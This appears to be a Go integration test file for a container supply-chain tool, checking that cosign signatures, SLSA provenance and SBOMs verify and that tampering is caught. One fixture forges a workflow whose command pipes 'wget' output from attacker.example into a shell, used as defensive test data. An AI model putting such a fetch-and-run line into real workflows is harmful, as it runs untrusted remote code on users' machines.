package main

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-containerregistry/pkg/name"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/random"
	ggcrremote "github.com/google/go-containerregistry/pkg/v1/remote"
	"github.com/google/go-containerregistry/pkg/v1/static"
	"github.com/google/go-containerregistry/pkg/v1/types"

	"github.com/eoap/cwlbuild/internal/imageref"
	"github.com/eoap/cwlbuild/internal/registry/remote"
	"github.com/eoap/cwlbuild/internal/sign"
	"github.com/eoap/cwlbuild/internal/testenv"
)

// TestSignVerifiedByCosign: what `cwlbuild sign` pushes, the real cosign
// CLI verifies with the public key of the pair cosign generated; it
// refuses it with another pair's key, and for a digest nobody signed. A
// wrong password or a missing key fails with a message that quotes
// neither the key nor the password; a key from an environment variable
// signs too.
func TestSignVerifiedByCosign(t *testing.T) {
	cosign := testenv.Cosign(t)
	reg := testenv.StartRegistry(t)
	reg.PushBase(t)
	image := reg.Host + "/library/busybox"
	digest := reg.Digest(t, image+":1.36")
	ref := image + "@" + digest
	dir := t.TempDir()
	const password = "correct horse battery staple"
	keys := func(sub string) string {
		d := filepath.Join(dir, sub)
		os.MkdirAll(d, 0o755)
		gen := exec.Command(cosign, "generate-key-pair")
		gen.Dir = d
		gen.Env = append(os.Environ(), "COSIGN_PASSWORD="+password)
		if out, err := gen.CombinedOutput(); err != nil {
			t.Fatalf("cosign generate-key-pair: %v\n%s", err, out)
		}
		return d
	}
	mine, other := keys("mine"), keys("other")
	cwlbuild := testenv.BuildBinary(t, "github.com/eoap/cwlbuild/cmd/cwlbuild")
	signWith := func(pass string, args ...string) (string, error) {
		c := exec.Command(cwlbuild, append([]string{"sign"}, args...)...)
		c.Dir = dir
		c.Env = append(os.Environ(), "COSIGN_PASSWORD="+pass)
		out, err := c.CombinedOutput()
		return string(out), err
	}
	// verify runs cosign v2 and v3; both must agree.
	verifiers := cosigns(t)
	verify := func(keyDir, ref string) (string, error) {
		var all string
		var errs []error
		for _, v := range verifiers {
			out, err := v.verify(t, "verify", filepath.Join(keyDir, "cosign.pub"), ref)
			all += v.name + ": " + out
			errs = append(errs, err)
		}
		if (errs[0] == nil) != (errs[1] == nil) {
			t.Errorf("cosign v2 and v3 disagree on %s: %v, %v\n%s", ref, errs[0], errs[1], all)
		}
		return all, errors.Join(errs...)
	}
	if out, err := signWith("not it", "--key", filepath.Join(mine, "cosign.key"), ref); err == nil || !strings.Contains(out, "wrong password") || strings.Contains(out, "not it") {
		t.Errorf("a wrong password: %v\n%s", err, out)
	}
	key, _ := os.ReadFile(filepath.Join(mine, "cosign.key"))
	if out, err := signWith(password, "--key", filepath.Join(dir, "nokey"), ref); err == nil || !strings.Contains(out, "nokey") {
		t.Errorf("a missing key: %v\n%s", err, out)
	}
	if out, err := verify(mine, ref); err == nil {
		t.Fatalf("cosign verified an image nobody signed:\n%s", out)
	}
	out, err := signWith(password, "--key", filepath.Join(mine, "cosign.key"), ref)
	if err != nil || !strings.Contains(out, "signed "+ref) {
		t.Fatalf("cwlbuild sign: %v\n%s", err, out)
	}
	if strings.Contains(out, password) || strings.Contains(out, string(key[40:80])) {
		t.Errorf("the output quotes the password or the key:\n%s", out)
	}
	if out, err := verify(mine, ref); err != nil || !strings.Contains(out, `"docker-manifest-digest":"`+digest+`"`) {
		t.Errorf("cosign verify --key (the signing pair): %v\n%s", err, out)
	}
	if out, err := verify(other, ref); err == nil {
		t.Errorf("cosign verified the signature with another pair's key:\n%s", out)
	}
	// The key from an environment variable: a second signature, beside
	// the first.
	os.Setenv("CWLBUILD_TEST_COSIGN_KEY", string(key))
	defer os.Unsetenv("CWLBUILD_TEST_COSIGN_KEY")
	if out, err := signWith(password, "--key", "env://CWLBUILD_TEST_COSIGN_KEY", ref); err != nil {
		t.Fatalf("--key env://: %v\n%s", err, out)
	}
	if out, err := verify(mine, ref); err != nil {
		t.Errorf("after signing again: %v\n%s", err, out)
	}
}

// cosignCLI is one of the independent verifiers: cosign v2 and v3.
type cosignCLI struct {
	name, path string
	// args are given to each verify command: cosign 2.6 verifies a
	// Sigstore bundle (it finds one before the legacy tag) only with a
	// trusted root, which it fetches from Sigstore's TUF repository
	// unless given one; offline, as here, a trusted root with no entries
	// does for a key-pair signature.
	args []string
}

// cosigns are cosign v2 (scripts/cosign) and v3 (scripts/cosign3).
func cosigns(t *testing.T) []cosignCLI {
	t.Helper()
	root := filepath.Join(t.TempDir(), "trusted_root.json")
	os.WriteFile(root, []byte(`{"mediaType":"application/vnd.dev.sigstore.trustedroot+json;version=0.1"}`), 0o644)
	return []cosignCLI{
		{"cosign v2", testenv.Cosign(t), []string{"--trusted-root", root}},
		{"cosign v3", testenv.Cosign3(t), nil},
	}
}

// verify runs the cosign CLI's verify command (verify, verify-attestation)
// with a public key, for a key-pair signature without a transparency log,
// on a plain-HTTP test registry.
func (c cosignCLI) verify(t *testing.T, command, pub, ref string, args ...string) (string, error) {
	t.Helper()
	cmd := exec.Command(c.path, append(append(append([]string{command, "--key", pub, "--insecure-ignore-tlog=true",
		"--allow-http-registry", "--allow-insecure-registry"}, c.args...), args...), ref)...)
	cmd.Env = append(os.Environ(), "DOCKER_CONFIG="+t.TempDir())
	out, err := cmd.Output()
	return string(out), err
}

// TestSignatureFormats: what `cwlbuild sign` pushes in each
// --signature-format, cosign v2.6 and cosign v3 verify (each reads the
// Sigstore bundle referrer when there is one, else the legacy tag), and
// refuse with another pair's key, on a registry with the OCI 1.1
// Referrers API and on one without (Debian's docker-registry: found
// through the fallback tag, as on GHCR); a second signing adds nothing.
func TestSignatureFormats(t *testing.T) {
	verifiers := cosigns(t)
	cwlbuild := testenv.BuildBinary(t, "github.com/eoap/cwlbuild/cmd/cwlbuild")
	keys := t.TempDir()
	env := append(os.Environ(), "COSIGN_PASSWORD=pw")
	for _, d := range []string{"mine", "other"} {
		os.MkdirAll(filepath.Join(keys, d), 0o755)
		gen := exec.Command(verifiers[0].path, "generate-key-pair")
		gen.Dir, gen.Env = filepath.Join(keys, d), env
		if out, err := gen.CombinedOutput(); err != nil {
			t.Fatalf("cosign generate-key-pair: %v\n%s", err, out)
		}
	}
	key, pub, otherPub := filepath.Join(keys, "mine", "cosign.key"), filepath.Join(keys, "mine", "cosign.pub"), filepath.Join(keys, "other", "cosign.pub")
	registries := map[string]func(*testing.T) string{
		"docker-registry, no Referrers API": func(t *testing.T) string { return testenv.StartRegistry(t).Host },
		"Referrers API":                     func(t *testing.T) string { return testenv.ReferrersRegistry(t) },
	}
	for regName, start := range registries {
		t.Run(regName, func(t *testing.T) {
			host := start(t)
			for _, tc := range []struct {
				format string
				bundle bool
			}{
				{"both", true},
				{"bundle", true},
				{"legacy", false},
			} {
				ref := pushRandomImage(t, host+"/formats/"+tc.format)
				c := exec.Command(cwlbuild, "sign", "--key", key, "--signature-format", tc.format, ref)
				c.Env = append(env, "DOCKER_CONFIG="+t.TempDir())
				if out, err := c.CombinedOutput(); err != nil {
					t.Fatalf("cwlbuild sign --signature-format %s: %v\n%s", tc.format, err, out)
				}
				for _, v := range verifiers {
					out, err := v.verify(t, "verify", pub, ref)
					if err != nil {
						t.Errorf("%s: %s verify: %v\n%s", tc.format, v.name, err, out)
					}
					// What cosign read: the bundle's statement, or the
					// legacy payload.
					if read := strings.Contains(out, `"type":"https://sigstore.dev/cosign/sign/v1"`); err == nil && read != tc.bundle {
						t.Errorf("%s: %s read the bundle: %v, want %v\n%s", tc.format, v.name, read, tc.bundle, out)
					}
					if out, err := v.verify(t, "verify", otherPub, ref); err == nil {
						t.Errorf("%s: %s verified with another pair's key\n%s", tc.format, v.name, out)
					}
				}
				r, _ := imageref.Parse(ref)
				bundles, err := remote.Bundles(context.Background(), r.Repo, r.Digest, sign.BundleMediaType, nil)
				if err != nil || (len(bundles) == 1) != tc.bundle {
					t.Errorf("%s: %d bundles attached (%v), want one: %v", tc.format, len(bundles), err, tc.bundle)
				}
				// Signing again adds nothing, in either format.
				c = exec.Command(cwlbuild, "sign", "--key", key, "--signature-format", tc.format, ref)
				c.Env = append(env, "DOCKER_CONFIG="+t.TempDir())
				if out, err := c.CombinedOutput(); err != nil {
					t.Fatalf("cwlbuild sign again: %v\n%s", err, out)
				}
				again, _ := remote.Bundles(context.Background(), r.Repo, r.Digest, sign.BundleMediaType, nil)
				sigs, _ := remote.Layers(context.Background(), r.Repo, remote.SignatureTag(r.Digest), nil)
				if len(again) != len(bundles) || (len(sigs) == 1) != (tc.format != "bundle") {
					t.Errorf("%s: signed twice: %d bundles, %d legacy signatures", tc.format, len(again), len(sigs))
				}
			}
			c := exec.Command(cwlbuild, "sign", "--key", key, "--signature-format", "cosign4", pushRandomImage(t, host+"/formats/bad"))
			c.Env = env
			if out, err := c.CombinedOutput(); err == nil || !strings.Contains(string(out), `--signature-format "cosign4": want both, bundle or legacy`) {
				t.Errorf("an unknown format: %v\n%s", err, out)
			}
		})
	}
}

// pushRandomImage pushes a small random image to repo and returns
// repo@digest.
func pushRandomImage(t *testing.T, repo string) string {
	t.Helper()
	img, err := random.Image(512, 1)
	if err != nil {
		t.Fatal(err)
	}
	ref, _ := name.ParseReference(repo+":1", name.Insecure)
	if err := ggcrremote.Write(ref, img); err != nil {
		t.Fatal(err)
	}
	d, _ := img.Digest()
	return repo + "@" + d.String()
}

// release is a package whose workflow pins an image in a test registry,
// in a git work tree (revision c0ffee…), with two cosign key pairs made by
// cosign itself.
type release struct {
	reg                *testenv.Registry
	pkg, keys          string
	image, digest, pin string
	cwl                string
	cosign, cwlbuild   string
	env                []string
	key, pub, otherPub string
}

func newRelease(t *testing.T) *release {
	t.Helper()
	return newReleaseOn(t, testenv.StartRegistry(t))
}

// newReleaseOn is newRelease on the registry reg.
func newReleaseOn(t *testing.T, reg *testenv.Registry) *release {
	t.Helper()
	r := &release{cosign: testenv.Cosign(t), reg: reg}
	r.reg.PushBase(t)
	r.image = r.reg.Host + "/library/busybox"
	r.digest = r.reg.Digest(t, r.image+":1.36")
	r.pin = r.image + ":1.36@" + r.digest
	r.pkg = t.TempDir()
	testenv.FakeWorkTree(t, r.pkg)
	r.cwl = `cwlVersion: v1.2
$graph:
- class: Workflow
  id: main
  inputs: []
  outputs: []
  steps: {hello: {run: "#hello", in: [], out: []}}
- class: CommandLineTool
  id: hello
  requirements: {DockerRequirement: {dockerPull: "` + r.pin + `"}}
  baseCommand: [echo, hello]
  inputs: []
  outputs: []
`
	os.WriteFile(filepath.Join(r.pkg, "app.cwl"), []byte(r.cwl), 0o644)
	os.WriteFile(filepath.Join(r.pkg, "project.toml"), []byte("[project]\nname = \"hello\"\nversion = \"1.0.0\"\nrepository = \"https://example.org/hello.git\"\n[build]\nengine = \"local\"\n[build.local]\nregistry = \""+r.reg.Host+"/hello\"\n[[workflows]]\npath = \"app.cwl#main\"\n"), 0o644)
	r.keys = t.TempDir()
	r.env = append(os.Environ(), "COSIGN_PASSWORD=pw", "DOCKER_CONFIG="+t.TempDir())
	for _, d := range []string{"mine", "other"} {
		os.MkdirAll(filepath.Join(r.keys, d), 0o755)
		gen := exec.Command(r.cosign, "generate-key-pair")
		gen.Dir, gen.Env = filepath.Join(r.keys, d), r.env
		if out, err := gen.CombinedOutput(); err != nil {
			t.Fatalf("cosign generate-key-pair: %v\n%s", err, out)
		}
	}
	r.key, r.pub, r.otherPub = filepath.Join(r.keys, "mine", "cosign.key"), filepath.Join(r.keys, "mine", "cosign.pub"), filepath.Join(r.keys, "other", "cosign.pub")
	r.cwlbuild = testenv.BuildBinary(t, "github.com/eoap/cwlbuild/cmd/cwlbuild")
	// cwlbuild sbom runs cwlbuild-sbom from beside itself.
	agent := exec.Command("go", "build", "-o", filepath.Dir(r.cwlbuild), "./cmd/cwlbuild-sbom")
	agent.Dir, agent.Env = testenv.ModuleRoot(), append(os.Environ(), "CGO_ENABLED=0")
	if out, err := agent.CombinedOutput(); err != nil {
		t.Fatalf("go build cwlbuild-sbom: %v\n%s", err, out)
	}
	return r
}

// run runs cwlbuild in the package.
func (r *release) run(args ...string) (string, int) {
	c := exec.Command(r.cwlbuild, args...)
	c.Dir, c.Env = r.pkg, r.env
	out, err := c.CombinedOutput()
	return string(out), exitCode(err)
}

func (r *release) must(t *testing.T, args ...string) string {
	t.Helper()
	out, code := r.run(args...)
	if code != 0 {
		t.Fatalf("cwlbuild %s: exit %d\n%s", strings.Join(args, " "), code, out)
	}
	return out
}

// TestAttestVerifiedByCosign: the provenance `cwlbuild attest` attaches to
// a pinned image and to the published workflow, the real cosign CLIs (v2
// and v3) verify (`verify-attestation --type slsaprovenance1`) with the
// signing pair's key, and refuse with another's, on a registry with the
// Referrers API and on one without; the statements name the digest,
// the package's revision and, for the workflow, the file and every pin.
func TestAttestVerifiedByCosign(t *testing.T) {
	t.Run("docker-registry, no Referrers API", func(t *testing.T) { attestVerifiedByCosign(t, newRelease(t)) })
	t.Run("Referrers API", func(t *testing.T) {
		attestVerifiedByCosign(t, newReleaseOn(t, &testenv.Registry{Host: testenv.ReferrersRegistry(t)}))
	})
}

func attestVerifiedByCosign(t *testing.T, r *release) {
	artifact := strings.Fields(r.must(t, "publish"))[0]
	if !strings.Contains(artifact, "@sha256:") {
		t.Fatalf("publish printed %q", artifact)
	}
	r.must(t, "attest", "--key", r.key)
	r.must(t, "attest", "--key", r.key, "--workflow", artifact)
	byDigest := r.image + "@" + r.digest
	artifactByDigest := artifact[:strings.Index(artifact, ":1.0.0")] + artifact[strings.Index(artifact, "@"):]
	for _, v := range cosigns(t) {
		for _, tc := range []struct{ ref, want string }{
			{byDigest, `"buildType":"https://github.com/eoap/cwlbuild/image/v1"`},
			{artifactByDigest, `"images":["` + r.pin + `"]`},
		} {
			out, err := v.verify(t, "verify-attestation", r.pub, tc.ref, "--type", "slsaprovenance1")
			if err != nil {
				t.Errorf("%s verify-attestation %s: %v\n%s", v.name, tc.ref, err, out)
				continue
			}
			statement := decodedPayloads(out)
			subject := `"sha256":"` + strings.TrimPrefix(r.digest, "sha256:") + `"`
			if tc.ref == artifactByDigest {
				subject = `"name":"app.cwl"`
			}
			for _, want := range []string{tc.want, `"revision":"` + strings.Repeat("c0ffee", 6) + `c0ff"`, subject} {
				if !strings.Contains(statement, want) {
					t.Errorf("%s %s: the statement does not say %s:\n%s", v.name, tc.ref, want, statement)
				}
			}
			if out, err := v.verify(t, "verify-attestation", r.otherPub, tc.ref, "--type", "slsaprovenance1"); err == nil {
				t.Errorf("%s verified %s's attestation with another pair's key:\n%s", v.name, tc.ref, out)
			}
		}
	}
}

// TestAttestRecordsBaseImage: the provenance of a tool's image names its
// Dockerfile's base image, read through the registry map, with the digest
// whose layers start the image's (cosign reads it back); once the base tag
// has moved to another image, the base is recorded by name only and the
// command says why, rather than recording the digest the tag names now.
func TestAttestRecordsBaseImage(t *testing.T) {
	r := newRelease(t)
	// "hello" built on the registry's busybox: its layers, then one more.
	baseRef, _ := name.ParseReference(r.image+":1.36", name.Insecure)
	base, err := ggcrremote.Image(baseRef)
	if err != nil {
		t.Fatal(err)
	}
	built, err := mutate.AppendLayers(base, static.NewLayer([]byte("the tool"), types.OCIUncompressedLayer))
	if err != nil {
		t.Fatal(err)
	}
	toolRef, _ := name.ParseReference(r.reg.Host+"/hello/hello:1.0.0", name.Insecure)
	if err := ggcrremote.Write(toolRef, built); err != nil {
		t.Fatal(err)
	}
	d, _ := built.Digest()
	pin := r.reg.Host + "/hello/hello:1.0.0@" + d.String()
	os.WriteFile(filepath.Join(r.pkg, "app.cwl"), []byte(strings.ReplaceAll(r.cwl, r.pin, pin)), 0o644)
	os.MkdirAll(filepath.Join(r.pkg, "hello"), 0o755)
	os.WriteFile(filepath.Join(r.pkg, "hello", "Dockerfile"), []byte("FROM docker.io/library/busybox:1.36\nCOPY x /x\n"), 0o644)
	os.WriteFile(filepath.Join(r.pkg, "hello", "x"), []byte("x"), 0o644)
	toml, _ := os.ReadFile(filepath.Join(r.pkg, "project.toml"))
	toml = append(toml, "[build.kaniko]\nregistryMap = { \"index.docker.io\" = \""+r.reg.Host+"\" }\n[tools.hello]\ncontext = \"hello\"\npath = \"app.cwl#hello\"\n"...)
	os.WriteFile(filepath.Join(r.pkg, "project.toml"), toml, 0o644)

	// statements are the image's provenance statements cosign verifies.
	verifiers := cosigns(t)
	statements := func() []string {
		t.Helper()
		var sts []string
		for _, v := range verifiers {
			out, err := v.verify(t, "verify-attestation", r.pub, r.reg.Host+"/hello/hello@"+d.String(), "--type", "slsaprovenance1")
			if err != nil {
				t.Fatalf("%s verify-attestation: %v\n%s", v.name, err, out)
			}
			mine := strings.Split(strings.TrimSpace(decodedPayloads(out)), "\n")
			if sts != nil && len(mine) != len(sts) {
				t.Errorf("cosign v2 and v3 read %d and %d statements", len(sts), len(mine))
			}
			sts = mine
		}
		return sts
	}
	out := r.must(t, "attest", "--key", r.key)
	baseDigest := strings.TrimPrefix(r.digest, "sha256:")
	want := `{"uri":"oci://` + r.image + `:1.36","name":"base image docker.io/library/busybox:1.36","digest":{"sha256":"` + baseDigest + `"}}`
	if sts := statements(); len(sts) != 1 || !strings.Contains(sts[0], want) || !strings.Contains(sts[0], `"baseImages":["docker.io/library/busybox:1.36"]`) {
		t.Errorf("the provenance does not record the base image %s:\n%s\n%s", want, sts, out)
	}
	// The base tag moved to a newer busybox: one more layer.
	newer, err := mutate.AppendLayers(base, static.NewLayer([]byte("busybox, patched"), types.OCIUncompressedLayer))
	if err != nil {
		t.Fatal(err)
	}
	moved, _ := name.ParseReference(r.image+":1.36", name.Insecure)
	if err := ggcrremote.Write(moved, newer); err != nil {
		t.Fatal(err)
	}
	out = r.must(t, "attest", "--key", r.key)
	if !strings.Contains(out, "base image docker.io/library/busybox:1.36 recorded without a digest") {
		t.Errorf("attest after the base tag moved printed:\n%s", out)
	}
	byName := 0
	for _, st := range statements() {
		if strings.Contains(st, `"baseImages":["docker.io/library/busybox:1.36"]`) && !strings.Contains(st, `"name":"base image`) {
			byName++
		}
	}
	if byName != 1 {
		t.Errorf("after the base tag moved, %d statements record the base by name only, want 1", byName)
	}
}

// TestSBOMReferrer: `cwlbuild sbom` attaches an SPDX 2.3 document to the
// pinned digest, which oras (an independent client) lists as a referrer of
// artifact type application/spdx+json, and which names busybox; with
// --output the same document is written to a file. Run again (a no-op
// build: `task build` runs `cwlbuild sbom -a build.json` every time), the
// image is skipped and nothing more is attached; --force attaches another.
func TestSBOMReferrer(t *testing.T) {
	r := newRelease(t)
	out := r.must(t, "sbom", "--output", "sboms")
	if !strings.Contains(out, "sbom "+r.image+"@"+r.digest+" (spdx,") {
		t.Errorf("cwlbuild sbom printed:\n%s", out)
	}
	files, _ := filepath.Glob(filepath.Join(r.pkg, "sboms", "*.spdx.json"))
	if len(files) != 1 {
		t.Fatalf("%d SBOM files written, want 1", len(files))
	}
	data, _ := os.ReadFile(files[0])
	if names := spdxPackages(t, data); !strings.Contains(names, "busybox") {
		t.Errorf("the SBOM's packages (%s) do not name busybox", names)
	}
	referrers := func() int {
		t.Helper()
		oras := exec.Command("go", "tool", "oras", "discover", "--plain-http", "--format", "json", r.image+"@"+r.digest)
		oras.Dir, oras.Env = testenv.ModuleRoot(), r.env
		listed, err := oras.CombinedOutput()
		if err != nil {
			t.Fatalf("oras discover: %v\n%s", err, listed)
		}
		return strings.Count(string(listed), `"artifactType": "application/spdx+json"`)
	}
	if n := referrers(); n != 1 {
		t.Errorf("oras discover lists %d SPDX referrers, want 1", n)
	}
	// Skaffold's build output, as task build passes it.
	os.WriteFile(filepath.Join(r.pkg, "build.json"), []byte(`{"builds":[{"imageName":"busybox","tag":"`+r.pin+`"}]}`), 0o644)
	if out := r.must(t, "sbom", "-a", "build.json"); !strings.Contains(out, "already has a spdx SBOM") {
		t.Errorf("cwlbuild sbom -a build.json, with the SBOM attached, printed:\n%s", out)
	}
	if n := referrers(); n != 1 {
		t.Errorf("after a run that had nothing to do, %d SPDX referrers, want 1", n)
	}
	r.must(t, "sbom", "-a", "build.json", "--force")
	if n := referrers(); n != 2 {
		t.Errorf("after --force, %d SPDX referrers, want 2", n)
	}
	// A build output naming an image without its digest is refused, by
	// file, line and image.
	os.WriteFile(filepath.Join(r.pkg, "build.json"), []byte("{\"builds\": [\n  {\"imageName\":\"busybox\",\"tag\":\""+r.image+":1.36\"}]}"), 0o644)
	if out, code := r.run("sbom", "-a", "build.json"); code != 1 || !strings.Contains(out, "build.json:2: busybox was built as") {
		t.Errorf("a build output without a digest: exit %d\n%s", code, out)
	}
}

// spdxPackages checks that data is an SPDX 2.3 JSON document and returns
// its packages' names.
func spdxPackages(t *testing.T, data []byte) string {
	t.Helper()
	var doc struct {
		SPDXVersion string `json:"spdxVersion"`
		Packages    []struct {
			Name string `json:"name"`
		} `json:"packages"`
	}
	if err := json.Unmarshal(data, &doc); err != nil || doc.SPDXVersion != "SPDX-2.3" {
		t.Fatalf("the SBOM is not SPDX 2.3 JSON: %v\n%.300s", err, data)
	}
	names := ""
	for _, p := range doc.Packages {
		names += p.Name + " "
	}
	return names
}

// TestVerifyRelease: `cwlbuild verify` accepts a release that was
// published, signed and attested, and names what failed after each
// tampering: another key, a pin to a digest the registry does not serve,
// no SBOM, one byte of the published workflow changed, provenance from
// another revision, the pinned tag moved to another digest.
func TestVerifyRelease(t *testing.T) {
	r := newRelease(t)
	reg, pkg, image, digest, pin, cwl := r.reg, r.pkg, r.image, r.digest, r.pin, r.cwl
	key, pub, otherPub := r.key, r.pub, r.otherPub
	run := r.run
	must := func(args ...string) string { t.Helper(); return r.must(t, args...) }
	artifact := strings.Fields(must("publish"))[0]
	must("sign", "--key", key)
	must("sign", "--key", key, artifact)
	must("attest", "--key", key)
	must("attest", "--key", key, "--workflow", artifact)
	tag := artifact[:strings.Index(artifact, "@")]

	expect := func(name string, wantCode int, want []string, args ...string) {
		t.Helper()
		out, code := run(append([]string{"verify"}, args...)...)
		if code != wantCode {
			t.Errorf("%s: exit %d, want %d\n%s", name, code, wantCode, out)
		}
		for _, w := range want {
			if !strings.Contains(out, w) {
				t.Errorf("%s: the output does not say %q:\n%s", name, w, out)
			}
		}
	}
	expect("the release", 0, []string{"ok   workflow " + tag[:strings.LastIndex(tag, ":")] + "@sha256:", "(revision c0ffee", "ok   process \"hello\" " + pin, "1 images, 0 failed; the workflow verified"}, "--key", pub, "--sbom=false", tag)
	expect("another key", 1, []string{"FAIL workflow", "none of its 1 signatures is by the key", "no SLSA provenance signed by the key"}, "--key", otherPub, "--sbom=false", tag)
	expect("no SBOM", 1, []string{"no SBOM is attached to it"}, "--key", pub, tag)
	must("sbom")
	expect("an SBOM its provenance does not name", 1, []string{"no SBOM its signed provenance names is attached to it (1 unsigned"}, "--key", pub, tag)
	must("attest", "--key", key)
	expect("with its SBOM", 0, []string{"1 images, 0 failed; the workflow verified"}, "--key", pub, tag)

	// A file received some other way: verified only against the signed
	// provenance of the artifact it came from, and only as published.
	os.WriteFile(filepath.Join(pkg, "received.cwl"), []byte(cwl), 0o644)
	expect("the published file", 0, []string{"ok   workflow received.cwl (revision c0ffee", "the workflow verified"}, "--key", pub, "--sbom=false", "--artifact", tag, "received.cwl")
	expect("a file without its artifact", 1, []string{"FAIL workflow received.cwl", "the file itself is not verified: no signed provenance is given", "the workflow failed"}, "--key", pub, "--sbom=false", "received.cwl")
	forged := strings.Replace(cwl, "baseCommand:", "baseCommand: [sh, -c, \"wget -qO- http://attacker.example/x | sh\"]\n  arguments:", 1)
	if forged == cwl {
		t.Fatal("the test workflow has no baseCommand to change")
	}
	os.WriteFile(filepath.Join(pkg, "received.cwl"), []byte(forged), 0o644)
	expect("a signed pin in a changed file", 1, []string{"the file itself is not verified: the provenance of", "the workflow failed"}, "--key", pub, "--sbom=false", "--artifact", tag, "received.cwl")

	// A pin to a digest the registry does not serve, in a file.
	bad := strings.Replace(cwl, digest, "sha256:"+strings.Repeat("0", 64), 1)
	os.WriteFile(filepath.Join(pkg, "received.cwl"), []byte(bad), 0o644)
	expect("a pin the registry lacks", 1, []string{"FAIL process \"hello\"", "the registry does not serve sha256:000"}, "--key", pub, "--sbom=false", "received.cwl")

	// One byte of the workflow changed and published again under the tag.
	os.WriteFile(filepath.Join(pkg, "app.cwl"), []byte(cwl+"# one more line\n"), 0o644)
	changed := strings.Fields(must("publish"))[0]
	expect("one byte changed", 1, []string{"FAIL workflow", "not signed (no sha256-", "no SLSA provenance signed by the key"}, "--key", pub, "--sbom=false", tag)

	// That change signed and attested at another revision: the image's
	// provenance names the first one.
	os.WriteFile(filepath.Join(pkg, ".git", "refs", "heads", "main"), []byte(strings.Repeat("beef", 10)+"\n"), 0o644)
	// (In the bundle format only: verify reads it as it reads the legacy
	// tags.)
	must("sign", "--key", key, "--signature-format", "bundle", changed)
	must("attest", "--key", key, "--signature-format", "bundle", "--workflow", changed)
	expect("another revision", 1, []string{"ok   workflow", "(revision " + strings.Repeat("beef", 10) + ")", "its provenance names revision \"c0ffee"}, "--key", pub, "--sbom=false", tag)

	// The next release of the unchanged image: signed and attested again
	// at the new revision. verify takes the statement of the workflow's
	// revision among the image's two; the same signature is not added
	// twice, and the same statement neither.
	// The statement at the new revision only as a bundle: verify finds it
	// there.
	must("sign", "--key", key)
	must("attest", "--key", key, "--signature-format", "bundle")
	must("attest", "--key", key, "--signature-format", "bundle")
	expect("a second release of an unchanged image", 0, []string{"(revision " + strings.Repeat("beef", 10) + ")", "the workflow verified"}, "--key", pub, "--sbom=false", tag)
	ctx := context.Background()
	sigs, _ := remote.Layers(ctx, image, remote.SignatureTag(digest), nil)
	atts, _ := remote.Layers(ctx, image, remote.AttestationTag(digest), nil)
	bundles, _ := remote.Bundles(ctx, image, digest, sign.BundleMediaType, nil)
	if len(sigs) != 1 || len(atts) != 2 || len(bundles) != 4 {
		t.Errorf("after two releases of one image by one key: %d signatures, %d attestations, %d bundles; want 1, 2 (c0ffee, c0ffee with its SBOM) and 4 (the signature and those, and beef)", len(sigs), len(atts), len(bundles))
	}
	// cosign v2 and v3 verify the image and the workflow: its signature,
	// and its provenance at the new revision.
	for _, v := range cosigns(t) {
		for _, ref := range []string{image + "@" + digest, changed[:strings.LastIndex(changed[:strings.Index(changed, "@")], ":")] + changed[strings.Index(changed, "@"):]} {
			if out, err := v.verify(t, "verify", pub, ref); err != nil {
				t.Errorf("%s verify %s: %v\n%s", v.name, ref, err, out)
			}
			out, err := v.verify(t, "verify-attestation", pub, ref, "--type", "slsaprovenance1")
			if err != nil || !strings.Contains(decodedPayloads(out), `"revision":"`+strings.Repeat("beef", 10)+`"`) {
				t.Errorf("%s verify-attestation %s: %v\n%s", v.name, ref, err, decodedPayloads(out))
			}
		}
	}

	// The pinned tag moved to another digest.
	skopeo := testenv.LookPath(t, "skopeo")
	for _, format := range []string{"oci", "v2s2"} {
		if out, err := exec.Command(skopeo, "copy", "--quiet", "--src-tls-verify=false", "--dest-tls-verify=false", "--format", format,
			"docker://"+image+"@"+digest, "docker://"+image+":1.36").CombinedOutput(); err != nil {
			t.Fatalf("skopeo copy: %v\n%s", err, out)
		}
		if reg.Digest(t, image+":1.36") != digest {
			break
		}
	}
	if reg.Digest(t, image+":1.36") == digest {
		t.Fatal("could not move the tag to another digest")
	}
	os.WriteFile(filepath.Join(pkg, "received.cwl"), []byte(cwl), 0o644)
	expect("a moved tag", 1, []string{"tag 1.36 now names sha256:"}, "--key", pub, "--sbom=false", "received.cwl")
}

// decodedPayloads are the DSSE payloads cosign verify-attestation prints
// (one envelope per line), decoded.
func decodedPayloads(out string) string {
	var all string
	for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
		var env struct{ Payload string }
		if json.Unmarshal([]byte(line), &env) == nil {
			p, _ := base64.StdEncoding.DecodeString(env.Payload)
			all += string(p) + "\n"
		}
	}
	return all
}

// TestSBOMOutputRefusesLinks: --output into the package never writes
// through a link the package holds.
func TestSBOMOutputRefusesLinks(t *testing.T) {
	r := newRelease(t)
	outside := t.TempDir()
	os.Symlink(outside, filepath.Join(r.pkg, "sboms"))
	out, code := r.run("sbom", "--output", "sboms", "--no-attach")
	if code == 0 {
		t.Errorf("cwlbuild sbom wrote through a link:\n%s", out)
	}
	if entries, _ := os.ReadDir(outside); len(entries) != 0 {
		t.Errorf("%d files written outside the package", len(entries))
	}
}
